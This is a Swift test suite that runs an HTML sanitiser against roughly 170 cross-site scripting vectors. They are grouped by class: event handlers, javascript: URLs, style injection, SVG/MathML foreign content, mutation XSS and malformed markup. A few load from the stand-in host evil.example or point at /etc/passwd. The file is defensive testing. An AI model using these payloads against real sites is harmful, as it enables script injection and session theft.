import Markup
import Testing

/// Cross-site scripting by the classes of the published collections (OWASP filter evasion,
/// DOMPurify, html5sec, mutation XSS). The vectors are our own; each names its class.
@Suite("HTMLSanitizer against scripting")
struct ScriptingVectorTests {
  @Test("lets no vector through, and stays itself when sanitised again", arguments: vectors)
  func safe(vector: Vector) {
    let once = HTMLSanitizer.sanitize(vector.html, base: "https://example.org/a/b.html")
    let twice = HTMLSanitizer.sanitize(once, base: "https://example.org/a/b.html")

    #expect(SafeOutput.fault(in: once) == nil, "\(vector.kind): \(once)")
    #expect(twice == once, "\(vector.kind)")
    #expect(!once.lowercased().contains("<script"))
  }

  struct Vector: Sendable, CustomTestStringConvertible {
    var kind: String
    var html: String
    var testDescription: String { "\(kind): \(html.prefix(60))" }
  }

  static let vectors: [Vector] = table.flatMap { kind, list in
    list.map { Vector(kind: kind, html: $0) }
  }

  private static let table: [(String, [String])] = [
    (
      "script elements",
      [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>", "<script\n>alert(1)</script >",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>",
        "<script x=\">\" src=//evil.example></script>", "<ſcript>alert(1)</ſcript>",
        "<script>/*</script><img src=x onerror=alert(1)>*/", "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>", "<math><script>alert(1)</script></math>",
      ]
    ),
    (
      "event attributes",
      [
        "<img src=x onerror=alert(1)>", "<img src=x ONERROR = 'alert(1)'>",
        "<p onclick=alert(1)>x</p>",
        "<a href=/x onmouseover=alert(1)>x</a>", "<img/src=x/onerror=alert(1)>",
        "<img src=x\nonerror\n=\nalert(1)>", "<img src=`x`onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x",
        "<b onfocus=alert(1) autofocus tabindex=1>x</b>", "<div onpointerenter=alert(1)>x</div>",
        "<td onclick=alert(1)>x", "<table onscroll=alert(1)><tr><td>x</table>",
        "<img alt='\" onerror=alert(1) x=\"' src=x>", "<img title='`onerror=alert(1)' src=x>",
        "<p style=\"animation:x\" onanimationstart=alert(1)>x</p>",
        "<img src=x on\u{0}error=alert(1)>",
      ]
    ),
    (
      "script addresses",
      [
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=' javascript:alert(1)'>x</a>", "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='java&#9;script:alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>", "<a href='&#0000106avascript:alert(1)'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href='view-source:javascript:alert(1)'>x</a>",
        "<a href='jar:https://e.example!/x'>x</a>",
        "<a href='blob:https://example.org/1'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<img src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='javascript:alert(1) 1x'>", "<img data-src='javascript:alert(1)'>",
        "<img src='jav\u{00AD}ascript:alert(1)'>", "<a href='https:javascript:alert(1)'>x</a>",
        "<a href='//user:pass@evil.example/'>x</a>",
        "<a href='https://good.example\\@evil.example'>x</a>",
        "<a href='mailto:javascript:alert(1)'>x</a>",
        "<a href=\"mailto:a@b.example&quot;onclick=alert(1)\">x</a>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<q cite='javascript:alert(1)'>x</q>",
        "<a xlink:href=javascript:alert(1)>x</a>",
        "<a href='https://example.org/\"onclick=alert(1)'>x</a>",
        "<a href='https://example.org/&#34;><script>alert(1)</script>'>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
      ]
    ),
    (
      "style",
      [
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<style><img src=x onerror=alert(1)></style>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<p style='-moz-binding:url(x#y)'>x</p>",
        "<p style=position:fixed;top:0;left:0;width:100%>x</p>",
        "<font style='x:\\65xpression(alert(1))'>x</font>",
        "<style>*{background:url('//evil.example')}</style>x",
      ]
    ),
    (
      "frames and embedding",
      [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<base href=javascript:/a/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<portal src=x></portal>",
        "<object><param name=movie value=javascript:alert(1)></object>", "<link rel=import href=x>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<video poster=javascript:alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>", "<fencedframe></fencedframe>",
        "<bgsound src=javascript:alert(1)>",
      ]
    ),
    (
      "foreign content",
      [
        "<svg onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<svg:script>alert(1)</svg:script>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<svg><desc><p title='</desc><img src=x onerror=alert(1)>'>x</p></desc></svg>",
      ]
    ),
    (
      "mutation",
      [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<p><table><td><p><style></p><img src=x onerror=alert(1)>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<template><script>alert(1)</script></template>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<a><table><a href=javascript:alert(1)>x",
        "<img alt=\"``onmouseover=alert(1)\" src=x>",
        "<p title='&lt;img src=x onerror=alert(1)&gt;'>x</p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)",
        "<b><i><b><p><i>x</b></i></p>",
        "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<dialog open><form method=dialog>x",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<! foo=\"><script>alert(1)</script>\">", "<?xml foo=\"><script>alert(1)</script>\">",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"></svg>",
        "<comment><img src=\"</comment><img src=x onerror=alert(1)>\">",
        "<% foo><x foo=\"%><script>alert(1)</script>\">",
      ]
    ),
    (
      "broken markup",
      [
        "<img src=x onerror=alert(1)", "<img src='x", "<a href=\"javascript:alert(1)", "<", "<>",
        "</", "<a", "<a href",
        "<a href=", "<p/onclick=alert(1)/>", "<img \"\"\"><script>alert(1)</script>\">",
        "<b <script>alert(1)</script>>",
        "<a b='<c d=\"' href=javascript:alert(1)>'\">x", "<img src=x:alert(1) onerror=eval(src)>",
        "<div><p></div></p></div><script", "]]>", "-->", "<p>a\u{0}b</p>",
        "<\u{0}script>alert(1)</script>",
        "<im\u{FEFF}g src=x onerror=alert(1)>", "\u{FEFF}<script>alert(1)</script>",
        "<a\u{00A0}href=javascript:alert(1)>x",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u{202E}<b>x</b>", "&#x3c;script&#x3e;",
        "&#0;&#xD800;&#x110000;&#128;",
        "<p>\u{1F}\u{7F}\u{9F}\u{FFFE}\u{FFFF}x</p>",
        "<a href=&#x6a&#x61&#x76&#x61&#x73cript:alert(1)>x</a>",
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<a id=document name=cookie href=/x>x</a>",
        "<img name=getElementById src=/x.png>", "<form id=x><input name=attributes></form>",
      ]
    ),
  ]
}
